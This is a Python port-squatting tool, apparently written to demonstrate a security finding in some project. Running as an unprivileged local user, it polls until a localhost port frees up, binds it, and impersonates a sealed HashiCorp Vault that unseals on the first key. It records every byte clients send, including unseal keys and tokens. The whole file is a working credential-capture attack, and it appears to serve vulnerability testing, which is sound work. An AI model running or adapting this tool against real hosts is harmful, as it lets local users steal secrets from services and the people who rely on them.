"""A port squatter, as an unprivileged local user would run one (issue 30, finding 1). Stdlib only: it runs as
`nobody` under the system Python (`setpriv`), which cannot read the root-owned venv.

    python3 squatter.py PORT...

For each port: try to bind 127.0.0.1:PORT every millisecond until it is free (SO_REUSEADDR, as an attacker
would), then listen there and answer every request like a sealed Vault that unseals on the first key (enough for
a client that takes whatever answers to hand over its keys and token). Every byte received is reported on stdout,
one line per read, `got PORT HEX`; each bind as `bound PORT`. Runs until stdin closes.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
import time

_lock = threading.Lock()
_state = {"sealed": True}


def _say(line: str) -> None:
    with _lock:
        sys.stdout.write(line + "\n")
        sys.stdout.flush()


def _reply(conn: socket.socket, head: bytes) -> None:
    parts = head.split(b"\r\n", 1)[0].decode(errors="replace").split()
    path = parts[1] if len(parts) > 1 else ""
    body: dict[str, object]
    if "sys/unseal" in path:
        _state["sealed"] = False
        body = {"sealed": False, "t": 1, "n": 1, "progress": 0, "initialized": True}
    elif "sys/health" in path:
        body = {"initialized": True, "sealed": _state["sealed"], "standby": False}
    elif "seal-status" in path:
        body = {"sealed": _state["sealed"], "t": 1, "n": 1, "progress": 0, "initialized": True}
    else:
        body = {"data": {"value": "squatted"}}
    data = json.dumps(body).encode()
    conn.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
        + f"Content-Length: {len(data)}\r\n\r\n".encode()
        + data
    )


def _serve(conn: socket.socket, port: int) -> None:
    with conn:
        conn.settimeout(10)
        buf = b""
        while True:
            try:
                chunk = conn.recv(65536)
            except OSError:
                return
            if not chunk:
                return
            _say(f"got {port} {chunk.hex()}")
            buf += chunk
            head, sep, rest = buf.partition(b"\r\n\r\n")
            if not sep:
                continue
            length = 0
            for line in head.split(b"\r\n")[1:]:
                name, _, value = line.partition(b":")
                if name.strip().lower() == b"content-length":
                    length = int(value.strip() or 0)
            if len(rest) >= length:
                _reply(conn, head)
                return


def _squat(port: int) -> None:
    while True:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("127.0.0.1", port))
        except OSError:
            s.close()
            time.sleep(0.001)
            continue
        s.listen(16)
        _say(f"bound {port}")
        break
    while True:
        conn, _ = s.accept()
        threading.Thread(target=_serve, args=(conn, port), daemon=True).start()


def main() -> None:
    for port in sys.argv[1:]:
        threading.Thread(target=_squat, args=(int(port),), daemon=True).start()
    _say("ready")
    sys.stdin.read()


if __name__ == "__main__":
    main()
